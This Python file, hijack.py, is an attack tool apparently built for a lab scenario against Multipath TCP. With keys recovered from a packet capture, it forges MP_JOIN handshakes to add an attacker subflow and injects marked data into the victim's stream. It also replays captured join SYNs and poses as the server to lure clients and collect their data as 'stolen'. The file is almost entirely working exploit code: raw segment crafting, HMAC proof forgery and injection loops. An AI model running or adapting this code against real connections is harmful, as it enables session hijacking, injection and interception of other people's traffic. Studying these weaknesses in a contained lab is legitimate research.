"""hijack.py COMMAND ...: subflows made by hand, of an attacker that read the keys. Works on addresses of the scenario's own namespaces only.

join PCAP ADDRESS PORT UP [HOW]   joins the newest connection to PORT that the capture shows as soon as it shows UP bytes of its client, and
                                  writes into the client's stream. HOW: replay (a SYN that the capture shows), port=N (from that port).
                                  Prints what came back to the SYN (rst, silence, syn-ack without a join), or to what was written: joined
                                  (an acknowledgment), thrown out (a reset) or unproven (nothing)
burn PCAP ADDRESS PORT COUNT      the newest join's SYN, COUNT times from other ports; prints how many were answered with a SYN-ACK
lure PCAP ADDRESS PORT SECONDS    answers whoever joins this host at ADDRESS and PORT with what the captured keys give; prints what it
                                  heard: nothing, a SYN, a reset, or how many bytes, and whether the marker was among them
"""
import os
import random
import socket
import struct
import sys
import time

import mptcp
import raw
import wire
from mptcp import ACK, JOIN, PSH, RST, SYN

SIZE = b"\x02\x04\x05\xb4"
INJECTED = b"INJECTED-BY-ATTACKER" * 20


def aligned(options):
    options = b"".join(options)
    return options + b"\x01" * (-len(options) % 4)


def bare(options, kinds):
    return [bytes([kind, len(body) + 2]) + body for kind, body in options if kind in kinds]


def join(path, address, port, up, how=""):
    session = mptcp.load(path, port, up=up, joins=how == "replay")
    src, seq, out = raw.source_for(address), random.getrandbits(32), raw.Wire(address)
    sport = int(how[5:]) if how.startswith("port=") else random.randrange(20000, 60000)
    own = random.getrandbits(32).to_bytes(4, "big")
    options = [SIZE, mptcp.option(JOIN, 0, bytes([9]) + session.token.to_bytes(4, "big") + own)]
    if how == "replay":
        if not session.joins:
            sys.exit("the capture shows no join")
        copied = list(session.joins.values())[-1]
        own = copied.mptcp(JOIN)[6:10]
        options = bare(copied.options, (2, 3, 4, 30, 69))
    out.send(src, address, raw.segment(src, address, sport, port, seq, 0, SYN, aligned(options)))
    answer = out.answer(sport)
    if raw.name_of(answer) != "joined":
        return print(raw.name_of(answer))
    body = next(body for kind, body in answer[3] if kind == 30)
    theirs = body[10:14]
    proof = mptcp.signature(session.client_key, session.server_key, own + theirs)[:20]
    eno = [b"\x45\x02"] if any(kind == 69 for kind, _ in answer[3]) else []
    third = aligned([mptcp.option(JOIN, 0, b"\0" + proof), *eno])
    out.send(src, address, raw.segment(src, address, sport, port, seq + 1, answer[1] + 1, ACK, third))
    time.sleep(0.2)
    mapping = mptcp.dss(session.next_data(True), 1, len(INJECTED), acknowledgment=session.next_data(False))
    if eno:
        # No frame, but as long as one says it is.
        mapping, data = mptcp.option(JOIN, 0, b"\0" + proof), b"\0" + struct.pack("!H", len(INJECTED) - 3) + INJECTED[3:]
        mapping += b"\x45\x02\x01\x01"
    else:
        data = INJECTED
    end = time.monotonic() + 2
    while time.monotonic() < end:
        out.send(src, address, raw.segment(src, address, sport, port, seq + 1, answer[1] + 1, ACK | PSH, aligned([mapping]), data))
        reply = out.answer(sport, 0.4)
        if reply is None:
            continue
        if reply[0] & RST:
            return print("thrown out")
        if not reply[0] & SYN and reply[2] == (seq + 1 + len(data)) & 0xFFFFFFFF:
            return print("joined")
    print("unproven")


def burn(path, address, port, count):
    session, src, out, answered = mptcp.load(path, port, joins=1), raw.source_for(address), raw.Wire(address), 0
    copied = list(session.joins.values())[-1]
    for _ in range(count):
        sport = random.randrange(20000, 60000)
        options = aligned(bare(copied.options, (2, 3, 4, 30, 69)))
        out.send(src, address, raw.segment(src, address, sport, port, random.getrandbits(32), 0, SYN, options))
        answered += raw.name_of(out.answer(sport, 1)) == "joined"
    print(answered)


def lure(path, address, port, seconds):
    session, out = mptcp.load(path, port), raw.Wire(address)
    heard, seq, streams, own, end = "nothing", random.getrandbits(32), {}, os.urandom(4), time.monotonic() + seconds
    print("waiting", flush=True)
    while (left := end - time.monotonic()) > 0:
        out.inward.settimeout(left)
        try:
            data, (peer, *_) = out.inward.recvfrom(65536)
        except TimeoutError:
            break
        tcp = data[(data[0] & 15) * 4:]
        sport, dport, their_seq, _ = struct.unpack_from("!HHII", tcp, 0)
        header, flags = (tcp[12] >> 4) * 4, tcp[13]
        if dport != port or str(socket.inet_ntoa(data[16:20])) != address:
            continue
        payload = tcp[header:]
        send = lambda flags, ack, options=b"", ahead=1: out.send(
            address, peer, raw.segment(address, peer, port, sport, seq + ahead, ack, flags, options))
        if flags & SYN:
            asked = next((body for kind, body in wire.options_of(tcp[20:header]) if kind == 30 and body[0] >> 4 == JOIN), None)
            if asked is None:
                continue
            heard = "syn" if heard == "nothing" else heard
            proof = mptcp.signature(session.server_key, session.client_key, own + asked[6:10])[:8]
            send(SYN | ACK, their_seq + 1, aligned([SIZE, mptcp.option(JOIN, 0, b"\x09" + proof + own)]), 0)
            streams[sport] = [their_seq + 1, b""]
        elif flags & RST:
            heard = "reset" if heard == "syn" else heard
        elif sport in streams:
            stream = streams[sport]
            if payload and their_seq == stream[0] & 0xFFFFFFFF:
                stream[0], stream[1] = stream[0] + len(payload), stream[1] + payload
                heard = "data"
            send(ACK, stream[0], mptcp.option(mptcp.DSS, 0, b"\x03" + struct.pack("!Q", session.next_data(True) & mptcp.MASK)))
    stolen = b"".join(stream[1] for stream in streams.values())
    print("stolen" if b"PLAINTEXT-MARKER" in stolen else heard, len(stolen))


def main():
    command, words = sys.argv[1], sys.argv[2:]
    if command == "join":
        join(words[0], words[1], int(words[2]), int(words[3]), *words[4:])
    elif command == "burn":
        burn(words[0], words[1], int(words[2]), int(words[3]))
    elif command == "lure":
        lure(words[0], words[1], int(words[2]), float(words[3]))
    else:
        sys.exit(__doc__)


main()
